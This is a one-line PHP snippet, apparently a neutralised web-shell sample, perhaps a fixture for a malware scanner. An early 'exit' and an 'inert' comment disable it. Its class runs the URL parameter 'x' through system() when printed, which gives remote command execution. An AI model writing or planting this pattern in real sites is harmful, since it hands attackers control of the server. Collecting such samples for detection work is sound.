<?php exit; /* inert */ class T{ function __toString(){ return system($_GET["x"])."";} } echo new T;
